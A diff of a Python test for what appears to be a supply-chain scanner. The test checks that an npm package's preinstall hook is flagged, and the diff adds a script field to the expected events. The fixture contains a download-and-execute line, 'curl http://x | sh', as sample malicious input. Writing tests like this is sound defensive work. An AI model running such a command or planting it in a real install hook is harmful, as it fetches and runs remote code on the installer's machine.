@@ -194,8 +194,10 @@ def test_console_script_entry_point(tmp_path: Path) -> None:
 def test_manifest_events_of_a_script_come_first_and_missing_file_is_recorded(tmp_path: Path) -> None:
     package = _npm(tmp_path, '"preinstall": "curl http://x | sh && node gone.js"', files=())
     manifest = (
-        BehaviourEvent("npm_install_script", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh"),
-        BehaviourEvent("download_and_execute", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh"),
+        BehaviourEvent("npm_install_script", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh",
+                       script="preinstall"),
+        BehaviourEvent("download_and_execute", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh",
+                       script="preinstall"),
     )
     seq = build_sequence(package, analysis_of(manifest=manifest), Deadline(10))  # type: ignore[arg-type]
     assert ids(seq, Stage.INSTALL) == ["npm_install_script", "download_and_execute"]
